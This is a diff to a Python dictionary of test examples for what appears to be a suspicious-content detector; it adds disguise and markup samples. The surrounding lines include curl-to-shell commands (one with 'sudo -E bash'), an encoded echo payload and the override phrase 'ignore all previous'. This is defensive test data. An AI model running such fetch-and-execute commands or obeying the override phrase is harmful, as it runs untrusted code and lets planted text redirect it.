@@ -57,10 +57,16 @@ EXAMPLES = {
     "repertory.catalogue.names._JOINED": ["a-b._/c"],
     "repertory.catalogue.names._SEPARATORS": ["a_-b c"],
     "repertory.catalogue.passages._STARTS": ["   12. a", "  - a"],
+    "repertory.review.suspicions._DISGUISE": ["a &amp; b"],
     "repertory.review.suspicions._ENCODED": ["echo " + "QUJD" * 8 + "== x"],
     "repertory.review.suspicions._ENCODED_COMMAND": ["x ignore all previous"],
     "repertory.review.suspicions._INVISIBLE": ["a\u202eb"],
     "repertory.review.suspicions._KNOWN_HOSTS": ["x https://raw.githubusercontent.com/aws/ y"],
+    "repertory.review.suspicions._MARKUP": [
+        "_a_ ~~b~~ <!-- c -->",
+        "<b>a</b> <span class='b'>c",
+        "![a](b) [c](d",
+    ],
     "repertory.review.suspicions._RUN_FROM_NETWORK": [
         "curl -s http://a | tee b | sudo -E bash",
         'sh -c "$(curl -s http://a)"',
